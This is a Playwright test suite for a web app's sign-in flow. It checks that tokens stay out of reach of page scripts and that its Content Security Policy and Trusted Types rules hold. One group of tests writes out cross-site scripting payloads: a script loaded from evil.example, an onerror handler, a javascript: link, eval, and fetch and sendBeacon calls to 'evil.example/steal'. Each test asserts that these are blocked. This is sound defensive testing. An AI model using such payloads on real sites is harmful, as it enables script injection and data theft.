import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures';
import { type RecordedAnswer, startRecordingProxy } from './support/recording-proxy';
import {
  allow,
  bringSession,
  createNote,
  deny,
  enterPassword,
  expectSignedIn,
  leaveForProvider,
  newTitle,
  noteCard,
  sessionCookieNamed,
  signOut,
} from './support/steps';

/** Two parts that begin as JSON objects do in base64url: a JWT, and nothing else on these pages. */
const jwt = /eyJ[\w-]+\.eyJ[\w-]+\.[\w-]*/g;

/** Whatever a script in this page could get hold of. */
function withinReach(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const databases = await indexedDB.databases();
    return [
      ...[JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie],
      ...[document.documentElement.outerHTML, JSON.stringify(history.state), location.href, window.name],
      ...[JSON.stringify(databases), JSON.stringify(performance.getEntries())],
      ...Array.from(
        document.querySelectorAll('input, textarea'),
        (field) => (field as HTMLInputElement).value,
      ),
    ].join('\n');
  });
}

async function expectNoToken(page: Page): Promise<void> {
  expect((await withinReach(page)).match(jwt) ?? [], page.url()).toEqual([]);
}

/** What a script may read of an answer: of a redirect, nothing (Fetch §2.2.6). */
function readable({ status, headers, body }: RecordedAnswer): string {
  return status >= 300 && status < 400 ? '' : `${JSON.stringify(headers)}\n${body}`;
}

test('no token is ever within reach of a script, but for the ID token that ends a sign-in, and the session at the provider', async ({
  browser,
  app,
  noise,
}) => {
  test.slow();
  noise.allow(/status of 404 .*\/nothing-here/);
  const proxy = await startRecordingProxy();
  const context = await browser.newContext({ baseURL: app.baseUrl, proxy: { server: proxy.server } });
  noise.listenTo(context);
  const page = await context.newPage();
  const title = newTitle('Tour');

  await page.goto('/');
  await expectNoToken(page);
  await leaveForProvider(page, { from: '/notes' });
  await enterPassword(page, 'alice');
  await allow(page);
  await expect(page.getByRole('heading', { name: 'Your notes' })).toBeVisible();
  await expectNoToken(page);
  expect(await page.evaluate(() => sessionStorage.length + localStorage.length)).toBe(0);

  await createNote(page, { title, body: 'On tour' });
  await expectNoToken(page);
  // By the router, which fetches components, and by loading the page.
  for (const name of ['Token', 'Notes', 'Token']) {
    await page.getByRole('link', { name, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(
      name === 'Token' ? 'Your access token' : 'Notes',
    );
    await expectNoToken(page);
  }
  for (const path of ['/', '/token', '/notes', '/login', '/auth/callback', '/nothing-here']) {
    await page.goto(path);
    await expectSignedIn(page, 'alice');
    await expectNoToken(page);
  }
  for (const path of ['/api/my-token', '/api/my-scopes', '/api/notes', '/auth/session', '/api/health']) {
    await page.evaluate((url) => fetch(url).then((response) => response.text()), path);
  }
  await page.goto('/notes');
  await noteCard(page, title).getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete note' }).click();
  await expect(noteCard(page, title)).toHaveCount(0);
  await leaveForProvider(page);
  await deny(page);
  await expect(page.getByText('Error code: access_denied')).toBeVisible();
  await expectNoToken(page);
  await signOut(page);
  await expectNoToken(page);

  await context.close();
  await proxy.close();

  const answers = proxy.answers.filter(({ origin }) => origin === app.baseUrl);
  const seen = new Set(answers.map(({ what }) => what));
  for (const what of ['POST /auth/token', 'GET /token', 'GET /notes', 'GET /api/my-token', 'POST /notes']) {
    expect(seen, 'answers that were read').toContain(what);
  }
  const components = answers.filter(({ headers }) => headers['content-type']?.startsWith('text/x-component'));
  expect(components.length, 'component payloads that were read').toBeGreaterThan(0);

  const tokens = answers.map((answer) => ({ what: answer.what, found: readable(answer).match(jwt) ?? [] }));
  const granted = JSON.parse(answers.find(({ what }) => what === 'POST /auth/token')?.body ?? '{}');
  expect(tokens.filter(({ found }) => found.length > 0)).toEqual([
    { what: 'POST /auth/token', found: [granted.id_token] },
    // On the way to the provider, which is told whose session ends: by itself and by a link.
    { what: 'POST /auth/logout', found: [granted.id_token, granted.id_token] },
  ]);
  expect(Object.keys(granted).sort()).toEqual(['expires_in', 'id_token', 'scope', 'token_type']);
});

test('Reveal shows the access token on demand, and Hide takes it away again', async ({
  page,
  context,
  app,
  request,
}) => {
  await bringSession(context, app);
  await page.goto('/token');
  await expectNoToken(page);
  await page.getByRole('button', { name: 'Reveal access token' }).click();
  const box = page.getByRole('region', { name: 'Access token' });
  await expect(box).toBeFocused();
  const token = (await box.textContent()) ?? '';
  expect(token.match(jwt)).toEqual([token]);

  const claims = await (
    await request.get('/api/my-token', { headers: { authorization: `Bearer ${token}` } })
  ).json();
  expect(claims).toMatchObject({ aud: 'https://api.claimcheck.local', client_id: 'claimcheck' });

  await page.getByRole('button', { name: 'Hide' }).click();
  await expect(page.getByRole('button', { name: 'Reveal access token' })).toBeFocused();
  await expectNoToken(page);
  await page.getByRole('button', { name: 'Reveal access token' }).click();
  await expect(box).toHaveText(/^eyJ/);
  await page.reload();
  await expect(page.getByRole('button', { name: 'Reveal access token' })).toBeVisible();
  await expectNoToken(page);
});

test('Reveal after the session has ended says so and leads to sign in', async ({
  page,
  context,
  app,
  noise,
}) => {
  noise.allow(/status of 401 .*\/auth\/reveal/);
  await bringSession(context, app);
  await page.goto('/token');
  await context.clearCookies({ name: sessionCookieNamed });
  await page.getByRole('button', { name: 'Reveal access token' }).click();
  await expect(page.getByRole('main').getByRole('alert')).toContainText('Your session has ended.');
  await page.getByRole('main').getByRole('link', { name: 'Sign in again' }).click();
  await expect(page).toHaveURL(/\/login\?.*returnTo=%2Ftoken/);
});

test.describe('a script that gets into a page', () => {
  test.beforeEach(({ noise }) =>
    noise.allow(/Content Security Policy|TrustedScript|TrustedHTML|Trusted Type|Blocked script/i),
  );

  test('as an inline element, an attribute or a URL does not run', async ({ page }) => {
    await page.goto('/login');
    await expect(page.getByRole('button', { name: /^Sign in with/ })).toBeEnabled();
    const ways = await page.evaluate(async () => {
      const attempt = (act: () => void) => {
        try {
          act();
          return 'let through';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const mark = 'window.hacked = true';
      // What the test runner starts may evaluate text; what comes after may do what any script may.
      await new Promise((resolve) => setTimeout(resolve));
      const outcomes = {
        text: attempt(() => {
          const script = document.createElement('script');
          script.textContent = mark;
          document.body.append(script);
        }),
        url: attempt(() => {
          const script = document.createElement('script');
          script.src = 'https://evil.example/x.js';
          document.body.append(script);
        }),
        data: attempt(() => {
          const script = document.createElement('script');
          script.src = `data:text/javascript,${mark}`;
          document.body.append(script);
        }),
        html: attempt(() => {
          const box = document.createElement('div');
          document.body.append(box);
          box.innerHTML = `<img src="data:," onerror="${mark}">`;
        }),
        write: attempt(() => document.write(`<script>${mark}</script>`)),
        timer: attempt(() => window.setTimeout(mark as unknown as TimerHandler)),
        // biome-ignore lint/security/noGlobalEval: the test is that it does not run
        evaluation: attempt(() => window.eval(mark)),
        policy: attempt(() => {
          const factory = (
            window as unknown as { trustedTypes: { createPolicy: (...parts: unknown[]) => unknown } }
          ).trustedTypes;
          factory.createPolicy('mine', { createScript: (text: string) => text });
        }),
        // Nothing forbids it; running it is what the policy has to prevent.
        address: attempt(() => {
          const link = document.createElement('a');
          link.href = `javascript:${mark}`;
          document.body.append(link);
          link.click();
        }),
      };
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      return outcomes;
    });
    const { address, timer, evaluation, ...refused } = ways;
    expect([...new Set(Object.values(refused))]).toEqual(['TypeError']);
    expect(evaluation).toBe('EvalError');
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });

  test('cannot send what it finds to another site', async ({ page, noise }) => {
    noise.allow(/Refused to connect|violates the following|Failed to fetch|Fetch API cannot load/);
    await page.goto('/');
    const requested: string[] = [];
    page.on('request', (sent) => requested.push(sent.url()));
    const sent = await page.evaluate(() =>
      fetch('https://evil.example/steal', { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(sent).toBe('blocked');
    expect(await page.evaluate(() => navigator.sendBeacon('https://evil.example/steal', 'x'))).toBeDefined();
    expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
  });
});

test('every page is sent with a policy of its own nonce, and is kept by nobody', async ({
  page,
  context,
  app,
  request,
}) => {
  await bringSession(context, app);
  const nonces = new Set<string>();
  for (const path of ['/', '/login', '/auth/callback', '/token', '/notes', '/nothing-here']) {
    const answer = await page.request.get(path);
    const headers = answer.headers();
    const policy = headers['content-security-policy'] ?? '';
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
    nonces.add(nonce);
    expect(policy, path).toContain("require-trusted-types-for 'script'");
    expect(policy, path).not.toContain('unsafe');
    expect(headers['cache-control'], path).toContain('no-store');
    expect(headers, path).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY' });
    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length, path).toBeGreaterThan(0);
    expect(
      scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`)),
      path,
    ).toEqual([]);
  }
  expect(nonces.size).toBe(6);
  expect((await request.get('/login')).headers()['x-powered-by']).toBeUndefined();
});
